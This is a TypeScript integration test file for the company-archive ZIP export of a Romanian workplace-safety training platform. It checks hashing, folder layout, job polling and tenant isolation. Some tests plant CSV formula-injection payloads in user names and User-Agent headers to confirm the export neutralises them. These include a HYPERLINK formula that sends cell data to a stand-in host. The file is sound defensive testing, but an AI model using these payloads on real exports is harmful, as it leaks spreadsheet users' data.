import { createHash, randomBytes } from 'node:crypto';
import { GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { texts } from '@ssm/shared';
import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import {
  ARCHIVE_RETENTION_SECONDS,
  getArchiveJob,
  listCompanyArchiveJobs,
  newArchiveJob,
  putArchiveJob,
} from '../../src/archives/data/archive-jobs';
import { runArchiveJob } from '../../src/archives/domain/archive-job';
import { buildRecordPath } from '../../src/archives/domain/archive-layout';
import { writeZip } from '../../src/archives/domain/archive-zip';
import { epochSeconds } from '../../src/platform/clock';
import { getConfig } from '../../src/platform/config';
import { newId } from '../../src/platform/ids';
import { MAX_USER_AGENT_LENGTH } from '../../src/platform/request-metadata';
import { getS3Client } from '../../src/platform/s3-client';
import { getArchives, getCourseFiles } from '../../src/platform/storage';
import { getSealing } from '../../src/signing/seal';
import { buildCompany, buildFirm, buildTenant, buildUser, tokenFor } from '../support/builders';
import {
  buildCodeUpload,
  buildDocument,
  buildSignedDocument,
  expectNoScan,
  massSign,
  signAsTrainee,
} from '../support/documents';
import { useTestGateway } from '../support/gateway';
import { formulaCellsOf, SEPARATORS } from '../support/spreadsheet';

const api = useTestGateway();

async function downloadZip(url: string): Promise<JSZip> {
  const response = await fetch(url);
  expect(response.status).toBe(200);
  return JSZip.loadAsync(await response.arrayBuffer());
}

describe('the streaming ZIP builder', () => {
  it('packs S3 objects and inline files into a ZIP in S3 that unpacks to the same bytes', async () => {
    const s3 = getS3Client();
    const bucket = getConfig().courseFilesBucket;
    const prefix = `test-zip/${newId()}`;
    const sources = await Promise.all(
      Array.from({ length: 30 }, async (_, index) => {
        const body = randomBytes(20_000 + index * 100);
        const key = `${prefix}/${index}.pdf`;
        await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: body }));
        return { path: `folder ${index % 3}/file ${index}.pdf`, bucket, key, body };
      }),
    );
    const progress: number[] = [];
    const target = { bucket: getConfig().archivesBucket, key: `${prefix}.zip` };

    await writeZip({
      source: getCourseFiles(),
      files: sources,
      inlineFiles: [{ path: 'index.csv', content: '\uFEFFa;b\r\n' }],
      target: { store: getArchives(), key: target.key },
      onFileDone: (done) => progress.push(done),
    });

    const object = await s3.send(new GetObjectCommand({ Bucket: target.bucket, Key: target.key }));
    const zip = await JSZip.loadAsync((await object.Body?.transformToByteArray()) as Uint8Array);
    for (const source of sources) {
      const content = await zip.file(source.path)?.async('nodebuffer');
      expect(
        createHash('sha256')
          .update(content as Buffer)
          .digest('hex'),
      ).toBe(createHash('sha256').update(source.body).digest('hex'));
    }
    expect(await zip.file('index.csv')?.async('string')).toBe('\uFEFFa;b\r\n');
    expect(progress.at(-1)).toBe(31);
  });
});

describe("a company's archive", () => {
  it('holds one PDF per signed record and the fișe in per-employee folders, and a parsable index', async () => {
    const { employee, admin, owner, company, firm } = await buildTenant();
    const second = await buildUser(
      { role: 'employee', firmId: firm.id, companyId: company.id },
      { first_name: 'Ștefan', last_name: 'Țărănescu' },
    );
    const signed = [
      await buildSignedDocument(api, { trainee: employee, admin, owner }),
      await buildSignedDocument(
        api,
        { trainee: employee, admin, owner },
        { course_title: 'PSI: stingătoare' },
      ),
      await buildSignedDocument(api, { trainee: second, admin, owner }),
    ];
    await buildDocument(employee);

    const answer = expectNoScan(
      await api.post<{ zip_url: string }>(
        '/api/generate-company-zip/',
        { company_id: company.id },
        await tokenFor(owner),
      ),
    );

    expect(answer.status).toBe(200);
    const zip = await downloadZip(answer.body.zip_url);
    const pdfs = Object.keys(zip.files).filter((name) => name.endsWith('.pdf'));
    const sheets = pdfs.filter((name) => name.includes('/Fisa individuala '));
    // Each employee's fișă individuală beside their records (worker-sheets.test.ts checks them).
    expect(sheets.sort()).toEqual([
      `Taranescu Stefan (${second.username})/Fisa individuala SSM.pdf`,
      `Test Ioana (${employee.username})/Fisa individuala SSM.pdf`,
    ]);
    expect(pdfs).toHaveLength(3 + sheets.length);
    expect(new Set(pdfs.map((name) => name.split('/')[0]))).toEqual(
      new Set([`Test Ioana (${employee.username})`, `Taranescu Stefan (${second.username})`]),
    );
    const rows: Record<string, string>[] = parse((await zip.file('index.csv')?.async('string')) as string, {
      bom: true,
      delimiter: ';',
      columns: true,
    });
    expect(rows.map((row) => row['Nr. document']).sort()).toEqual(signed.map((record) => record.id).sort());
    for (const row of rows) {
      const record = signed.find((candidate) => candidate.id === row['Nr. document']);
      expect(row['Amprenta documentului (SHA-256)']).toBe(record?.document_hash);
      expect(row['Cursant: hash semnătură']).toBe(record?.signatures[0]?.signature_hash);
      expect(row['Reprezentantul angajatorului: nume']).toBe(`${admin.last_name} ${admin.first_name}`);
      expect(row['Serviciul SSM: IP']).toBe(api.clientAddress);
      const pdf = await zip.file(row.Fișier as string)?.async('nodebuffer');
      expect(
        createHash('sha256')
          .update(pdf as Buffer)
          .digest('hex'),
      ).toBe(row['SHA-256 fișier PDF']);
    }
    expect(rows.find((row) => row.Nume === 'Țărănescu')?.Prenume).toBe('Ștefan');
  });

  it("writes a name and a signer's browser string that start like a formula as inert text", async () => {
    const { admin, owner, company, firm } = await buildTenant();
    const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
    const trainee = await buildUser(
      { role: 'employee', firmId: firm.id, companyId: company.id },
      { last_name: planted, job_title: '@SUM(1+1)' },
    );
    const record = await buildDocument(trainee);
    const upload = await api.request('POST', '/api/signatures/upload/', {
      body: await buildCodeUpload(api, trainee, record.id),
      token: await tokenFor(trainee),
      // A tab in front and padding behind: what a header can carry to slip past a naive check.
      headers: { 'user-agent': `\t${planted}${' x'.repeat(2000)}` },
    });
    expect(upload.status).toBe(201);
    await massSign(api, admin, [record.id]);
    await massSign(api, owner, [record.id]);

    const answer = await api.post<{ zip_url: string }>(
      '/api/generate-company-zip/',
      { company_id: company.id },
      await tokenFor(owner),
    );

    const zip = await downloadZip(answer.body.zip_url);
    const [row]: Record<string, string>[] = parse((await zip.file('index.csv')?.async('string')) as string, {
      bom: true,
      delimiter: ';',
      columns: true,
    });
    expect(row?.Nume).toBe(`'${planted}`);
    expect(row?.Funcția).toBe("'@SUM(1+1)");
    expect(row?.['Cursant: nume']).toBe(`'${planted} Ioana`);
    const browser = row?.['Cursant: browser'] ?? '';
    expect(browser.startsWith(`'${planted} x x`)).toBe(true);
    expect(browser.length).toBeLessThanOrEqual(MAX_USER_AGENT_LENGTH + 1);
    expect(
      Object.values(row ?? {}).filter((cell) => /^[\s]*[=+\-@]/.test(cell)),
      'no cell a spreadsheet would evaluate',
    ).toEqual([]);
  });

  it('writes an index that holds no formula cell whichever separator a spreadsheet splits it on', async () => {
    const { admin, owner, company, firm } = await buildTenant();
    const trainee = await buildUser(
      { role: 'employee', firmId: firm.id, companyId: company.id },
      { last_name: 'Pop,=1+1', first_name: 'Ion;+2', job_title: 'Sudor;@SUM(1)' },
    );
    const record = await buildDocument(trainee);
    const upload = await api.request('POST', '/api/signatures/upload/', {
      body: await buildCodeUpload(api, trainee, record.id),
      token: await tokenFor(trainee),
      headers: { 'user-agent': 'Mozilla/5.0,=HYPERLINK("http://x.example/?"&A1,"Click")' },
    });
    expect(upload.status).toBe(201);
    await massSign(api, admin, [record.id]);
    await massSign(api, owner, [record.id]);

    const answer = await api.post<{ zip_url: string }>(
      '/api/generate-company-zip/',
      { company_id: company.id },
      await tokenFor(owner),
    );
    const index = (await (
      await downloadZip(answer.body.zip_url)
    )
      .file('index.csv')
      ?.async('string')) as string;

    // LibreOffice finds a formula where one is: the same cell without the platform's writer.
    expect(
      await formulaCellsOf('Mozilla/5.0,=HYPERLINK("http://x.example/")\r\n', SEPARATORS.comma),
    ).toHaveLength(1);
    for (const separator of Object.values(SEPARATORS)) {
      expect(await formulaCellsOf(index, separator), JSON.stringify(separator)).toEqual([]);
    }
    expect(index).toContain(`Mozilla/5.0,'=HYPERLINK`);
  });

  it("downloads under the company's name and shows each record's signing time as read in Romania", async () => {
    const firm = await buildFirm();
    const suffix = randomBytes(4).toString('hex');
    const company = await buildCompany(firm.id, { name: `Construcții Țărm SRL ${suffix}` });
    const owner = await buildUser({ role: 'owner', firmId: firm.id });
    const employee = await buildUser({ role: 'employee', firmId: firm.id, companyId: company.id });
    const record = await buildSignedDocument(api, { trainee: employee, owner });

    const answer = await api.post<{ zip_url: string }>(
      '/api/generate-company-zip/',
      { company_id: company.id },
      await tokenFor(owner),
    );

    const response = await fetch(answer.body.zip_url);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Bucharest' }).format(new Date());
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="Arhiva Constructii Tarm SRL ${suffix} ${today}.zip"`,
    );
    const zip = await JSZip.loadAsync(await response.arrayBuffer());
    const entry = zip.file(buildRecordPath(record));
    // A ZIP time has no zone and 2-second steps: it must read as the wall clock in Bucharest did.
    const inBucharest = new Intl.DateTimeFormat('sv-SE', {
      timeZone: 'Europe/Bucharest',
      dateStyle: 'short',
      timeStyle: 'short',
    }).format(new Date(record.signed_at as string));
    expect(entry?.date.toISOString().slice(0, 16).replace('T', ' ')).toBe(inBucharest);
  });

  it('reports a running job with its progress, then its link, to the owner who polls it', async () => {
    const { owner, company, firm, employee, admin } = await buildTenant();
    await buildSignedDocument(api, { trainee: employee, admin, owner });
    const jobId = newId();
    await putArchiveJob({
      ...newArchiveJob({
        companyId: company.id,
        companyName: company.name,
        firmId: firm.id,
        requestedBy: owner.id,
      }),
      id: jobId,
    });
    const token = await tokenFor(owner);

    const running = expectNoScan(await api.get(`/api/archive-jobs/${jobId}/`, token));
    const foreign = await api.get(`/api/archive-jobs/${jobId}/`, await tokenFor((await buildTenant()).owner));
    await runArchiveJob({
      jobId,
      courseFiles: getCourseFiles(),
      archives: getArchives(),
      sealing: await getSealing(),
    });
    const done = await api.get<{ zip_url: string }>(`/api/archive-jobs/${jobId}/`, token);

    expect(running.body).toEqual({ job_id: jobId, status: 'running', progress: 0 });
    expect(foreign.status).toBe(404);
    expect(done.body).toMatchObject({ job_id: jobId, status: 'done', progress: 100, record_count: 1 });
    expect(Object.keys((await downloadZip(done.body.zip_url)).files)).toContain('index.csv');
    expect((await getArchiveJob(jobId))?.file_count).toBe(1);
  });

  it('reports a job that outlived the job time limit as failed', async () => {
    const { owner, company, firm } = await buildTenant();
    const jobId = newId();
    await putArchiveJob({
      id: jobId,
      company_id: company.id,
      company_name: company.name,
      firm_id: firm.id,
      requested_by: owner.id,
      status: 'running',
      progress: 40,
      zip_key: null,
      file_count: null,
      detail: null,
      created_at: new Date(Date.now() - 20 * 60 * 1000).toISOString(),
      finished_at: null,
      ttl: epochSeconds() + ARCHIVE_RETENTION_SECONDS,
    });

    const answer = await api.get(`/api/archive-jobs/${jobId}/`, await tokenFor(owner));

    expect(answer.body).toEqual({
      job_id: jobId,
      status: 'failed',
      progress: 40,
      detail: texts.archives.failed,
    });
  });

  it("gives a company admin their own company's archive, the same as the owner's, and no other company's", async () => {
    const { owner, firm, company, employee, admin } = await buildTenant();
    const neighbour = await buildCompany(firm.id);
    const neighbourAdmin = await buildUser({ role: 'admin', firmId: firm.id, companyId: neighbour.id });
    await buildSignedDocument(api, { trainee: employee, admin, owner });
    const adminToken = await tokenFor(admin);

    const own = await api.post<{ zip_url: string; record_count: number }>(
      '/api/generate-company-zip/',
      { company_id: company.id },
      adminToken,
    );
    const byOwner = await api.post<{ zip_url: string }>(
      '/api/generate-company-zip/',
      { company_id: company.id },
      await tokenFor(owner),
    );
    const jobsBefore = await listCompanyArchiveJobs(company.id);
    const foreign = await api.post(
      '/api/generate-company-zip/',
      { company_id: company.id },
      await tokenFor(neighbourAdmin),
    );
    const [job] = jobsBefore;
    const foreignJob = await api.get(`/api/archive-jobs/${job?.id}/`, await tokenFor(neighbourAdmin));
    const ownJob = await api.get(`/api/archive-jobs/${job?.id}/`, adminToken);

    expect(own.status).toBe(200);
    expect(own.body.record_count).toBe(1);
    const files = async (url: string) => Object.keys((await downloadZip(url)).files).sort();
    expect(await files(own.body.zip_url)).toEqual(await files(byOwner.body.zip_url));
    expect(foreign.status).toBe(404);
    expect(foreignJob.status).toBe(404);
    expect(ownJob.status).toBe(200);
    expect(await listCompanyArchiveJobs(company.id)).toHaveLength(jobsBefore.length);
  });

  it("is refused for another firm's company and without a chosen company", async () => {
    const { owner, company } = await buildTenant();
    const elsewhere = await buildTenant();
    const answer = await api.post(
      '/api/generate-company-zip/',
      { company_id: company.id },
      await tokenFor(elsewhere.owner),
    );
    const missingCompany = await api.post('/api/generate-company-zip/', {}, await tokenFor(owner));

    expect(answer.status).toBe(404);
    expect(missingCompany.status).toBe(400);
  });

  it('is refused, saying why, for a company whose records are not signed yet, and counts the records it archives', async () => {
    const { owner, company, employee, admin } = await buildTenant();
    const token = await tokenFor(owner);
    const waiting = await buildDocument(employee);
    await signAsTrainee(api, employee, waiting.id);

    const early = await api.post('/api/generate-company-zip/', { company_id: company.id }, token);
    const jobsAfterRefusal = await listCompanyArchiveJobs(company.id);
    await buildSignedDocument(api, { trainee: employee, admin, owner });
    const ready = await api.post<{ zip_url: string; record_count: number }>(
      '/api/generate-company-zip/',
      { company_id: company.id },
      token,
    );

    expect(early.status).toBe(409);
    expect(early.body).toEqual({ detail: texts.archives.empty });
    expect(jobsAfterRefusal).toEqual([]);
    expect(ready.status).toBe(200);
    expect(ready.body.record_count).toBe(1);
    const pdfs = Object.keys((await downloadZip(ready.body.zip_url)).files).filter(
      (name) => name.endsWith('.pdf') && !name.includes('/Fisa individuala '),
    );
    expect(pdfs).toHaveLength(1);
  });
});
